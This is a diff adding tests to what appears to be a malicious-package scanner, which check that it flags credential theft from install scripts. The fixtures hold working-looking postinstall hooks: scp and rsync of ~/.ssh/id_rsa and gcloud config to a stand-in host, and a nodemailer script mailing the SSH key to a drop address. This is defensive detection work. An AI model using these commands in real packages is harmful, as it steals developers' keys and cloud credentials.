@@ -1860,3 +1860,32 @@ process.dlopen({ exports: {} }, path.join(__dirname, 'build', 'Release', 'addon.
     expect(found.filter((r) => /eval|exec-network|drop-and-run/.test(r))).toEqual([]);
   });
 });
+
+describe('credential files sent by file transfer and as attachments', () => {
+  it('scp and rsync of key folders to another machine from an install script', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'sh sync.sh' } }),
+      'sync.sh':
+        '#!/bin/sh\nscp -q ~/.ssh/id_rsa backup@203.0.113.90:/drop/\nrsync -a ~/.config/gcloud/ backup@203.0.113.90:/drop/gc/\n',
+    });
+    expect(r.evidence.map((f) => f.rule)).toContain('script.secret-file-exfil');
+  });
+  it('mail with the SSH key attached by its path', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'node index.js' } }),
+      'index.js': `const nodemailer = require('nodemailer'); const os = require('os');
+const t = nodemailer.createTransport({ host: 'smtp.mail-relay.example', port: 587 });
+t.sendMail({ to: 'drop@mail-relay.example', attachments: [{ path: os.homedir() + '/.ssh/id_rsa' }] });`,
+    });
+    expect(r.evidence.map((f) => f.rule)).toContain('js.exfil-flow');
+  });
+  it('rsync between local folders and a report attached by path are not', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'sh copy.sh' } }),
+      'copy.sh': '#!/bin/sh\nrsync -a ./templates/ ./dist/templates/\n',
+      'index.js': `const nodemailer = require('nodemailer');
+module.exports = (t, to) => nodemailer.createTransport(t).sendMail({ to, attachments: [{ path: 'reports/weekly.pdf' }] });`,
+    });
+    expect(r.evidence.map((f) => f.rule).filter((x) => /exfil/.test(x))).toEqual([]);
+  });
+});
